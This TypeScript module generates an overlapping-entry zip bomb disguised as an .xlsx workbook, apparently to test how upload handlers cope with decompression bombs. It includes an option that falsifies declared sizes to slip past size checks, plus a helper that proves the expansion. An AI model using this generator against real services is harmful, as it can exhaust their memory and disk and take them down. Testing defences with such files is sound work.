import { crc32, deflateRawSync, inflateRawSync } from 'node:zlib';

/*
 * An overlapping-entry zip bomb after David Fifield, "A better zip bomb" (WOOT '19), its "full
 * overlap" construction: one highly compressed DEFLATE kernel behind one local file header, and many
 * central-directory entries that all point at that header. A reader that goes by the central
 * directory inflates the kernel once per entry; the file grows by one 46-byte directory entry (and
 * its name) per copy. Laid out as a workbook: the entries are named as an .xlsx's parts, and the
 * kernel is shared-strings XML holding one long string, so a reader that does get to parse it sees
 * well-formed XML.
 *
 * DEFLATE inflates at most 1,032 bytes per compressed byte (a 258-byte match at distance 1 in two
 * bits), so a file of S bytes with a kernel of C bytes and N entries of e bytes each (C + N·e ≤ S)
 * inflates to at most 1,032·C·N ≤ 1,032·S²/(4e): with e = 46 + the name (~70 bytes for names like
 * "xl/worksheets/sheet12.xml") that is ~3.7·S² — some 390 MB for 10 KB, past 1 GiB only from about
 * 17 KB. Fifield's own smallest (zbsm.zip) is 42 KB for 5.5 GB.
 */

const SST_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>';
const SST_TAIL = '</t></si></sst>';

export interface OverlapBomb {
  /** The file as uploaded. */
  bytes: Buffer;
  /** Central-directory entries, all pointing at the one local file header at offset 0. */
  entries: number;
  /** The kernel: compressed bytes and what they inflate to. */
  kernelCompressed: number;
  kernelInflated: number;
  /** What the central directory declares, summed over its entries. */
  declaredTotal: number;
  /** What inflating every entry the directory lists really gives (entries × kernelInflated). */
  inflatedTotal: number;
}

/** The names of an .xlsx's parts, then worksheets sheet1.xml, sheet2.xml … for the rest. */
export function workbookPartNames(count: number): string[] {
  const parts = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/sharedStrings.xml', 'xl/styles.xml'];
  const names = parts.slice(0, count);
  for (let sheet = 1; names.length < count; sheet += 1) names.push(`xl/worksheets/sheet${sheet}.xml`);
  return names;
}

/**
 * A bomb of `entries` entries whose kernel inflates to about `kernelInflated` bytes. `declaredEach`
 * is what every central-directory entry (and the local header) says it inflates to: the truth by
 * default; a lie (say 1 KB) makes a check of the declared sizes pass.
 */
export function overlappingWorkbookBomb(options: { entries: number; kernelInflated: number; declaredEach?: number }): OverlapBomb {
  const { entries } = options;
  if (entries < 1 || entries > 0xffff) throw new Error('entries: 1 to 65,535 (no ZIP64)');
  const filler = Math.max(0, options.kernelInflated - SST_HEAD.length - SST_TAIL.length);
  const plain = Buffer.concat([Buffer.from(SST_HEAD), Buffer.alloc(filler, 'a'), Buffer.from(SST_TAIL)]);
  const kernel = deflateRawSync(plain, { level: 9, memLevel: 9 });
  const crc = crc32(plain);
  const declared = options.declaredEach ?? plain.length;

  const localName = Buffer.from('xl/sharedStrings.xml');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt16LE(8, 8); // DEFLATE
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(kernel.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(localName.length, 26);

  const central: Buffer[] = [];
  for (const name of workbookPartNames(entries)) {
    const nameBytes = Buffer.from(name);
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(20, 4); // made by
    header.writeUInt16LE(20, 6); // needed
    header.writeUInt16LE(8, 10);
    header.writeUInt32LE(crc, 16);
    header.writeUInt32LE(kernel.length, 20);
    header.writeUInt32LE(declared, 24);
    header.writeUInt16LE(nameBytes.length, 28);
    header.writeUInt32LE(0, 42); // every entry: the one local header at offset 0
    central.push(header, nameBytes);
  }
  const centralBytes = Buffer.concat(central);
  const centralOffset = local.length + localName.length + kernel.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(centralBytes.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return {
    bytes: Buffer.concat([local, localName, kernel, centralBytes, end]),
    entries,
    kernelCompressed: kernel.length,
    kernelInflated: plain.length,
    declaredTotal: declared * entries,
    inflatedTotal: plain.length * entries,
  };
}

/**
 * Reads the bomb as a central-directory reader would — every entry the directory lists, from the
 * local header it points at — and inflates each one, counting (nothing is kept): the proof that the
 * file really inflates to what OverlapBomb says.
 */
export function inflateEveryEntry(zip: Buffer): { entries: number; inflated: number } {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  let inflated = 0;
  for (let entry = 0; entry < count; entry += 1) {
    const compressed = zip.readUInt32LE(at + 20);
    const localAt = zip.readUInt32LE(at + 42);
    const dataAt = localAt + 30 + zip.readUInt16LE(localAt + 26) + zip.readUInt16LE(localAt + 28);
    inflated += inflateRawSync(zip.subarray(dataAt, dataAt + compressed)).length;
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return { entries: count, inflated };
}
